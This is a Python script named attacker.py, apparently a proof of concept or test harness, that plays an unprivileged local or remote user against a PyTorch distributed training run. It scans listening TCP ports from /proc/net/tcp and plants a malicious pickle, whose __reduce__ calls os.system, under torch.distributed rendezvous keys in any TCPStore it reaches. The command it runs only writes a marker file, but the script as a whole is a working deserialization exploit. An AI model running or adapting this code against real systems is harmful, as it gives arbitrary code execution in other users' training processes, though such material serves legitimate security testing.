"""An ordinary user beside a run: finds what listens and puts a pickle wherever torch's store would take one.

`python attacker.py FOLDER [HOST]`: without a host on the same machine, writing what listens there to FOLDER/listening;
with one from another machine, at the ports that FOLDER/listening names. Ends when FOLDER/over is there.
"""

from __future__ import annotations

import base64
import contextlib
import os
import pickle
import socket
import sys
import time
from datetime import timedelta
from pathlib import Path

LISTEN = "0A"  # include/net/tcp_states.h


class Code:
    """Unpickling it runs a command."""

    def __init__(self, mark: str) -> None:
        self.mark = mark

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (f"id -u > {self.mark}",)


def listening() -> set[tuple[str, int]]:
    """(address in hexadecimal, port) of every listening TCP socket, from /proc/net/tcp and tcp6."""
    out = set()
    for table in ("tcp", "tcp6"):
        for line in Path("/proc/net", table).read_text().splitlines()[1:]:
            words = line.split()
            if words[3] == LISTEN:
                address, port = words[1].split(":")
                out.add((address, int(port, 16)))
    return out


def attack(host: str, port: int, payload: bytes) -> str:
    """Put the payload at every key under which the ranks of a process of this machine could look."""
    from torch.distributed import TCPStore

    try:
        socket.create_connection((host, port), timeout=1).close()
    except OSError as e:
        return f"{type(e).__name__}"
    try:
        store = TCPStore(host, port, None, False, timedelta(seconds=1), wait_for_workers=False)
        for pid in [p.name for p in Path("/proc").iterdir() if p.name.isdigit()]:
            store.set(f"torch.rendezvous.topocheck-{pid}", payload)
    except Exception as e:  # noqa: BLE001 - whatever torch says of a port that is no store
        return f"connected, {type(e).__name__}"
    return "stored"


def main() -> None:
    folder = Path(sys.argv[1])
    host = sys.argv[2] if len(sys.argv) > 2 else ""
    payload = base64.b64encode(pickle.dumps(Code(f"{folder}/ran")))
    import torch.distributed  # noqa: F401 - so that nothing is late

    (folder / f"ready{host}").touch()
    seen: set[tuple[str, int]] = set()
    while not (folder / "over").exists():
        found = set() if host else listening()
        if host:
            with contextlib.suppress(FileNotFoundError):
                words = [line.split() for line in (folder / "listening").read_text().splitlines()]
                found = {(w[0], int(w[1])) for w in words if len(w) == 2}
        for address, port in sorted(found - seen):
            if not host:
                with (folder / "listening").open("a") as f:
                    f.write(f"{address} {port}\n")
            with (folder / f"log{host}").open("a") as f:
                f.write(f"{address} {port} {attack(host or '127.0.0.1', port, payload)}\n")
        seen |= found
        time.sleep(0.01)


if __name__ == "__main__":
    main()
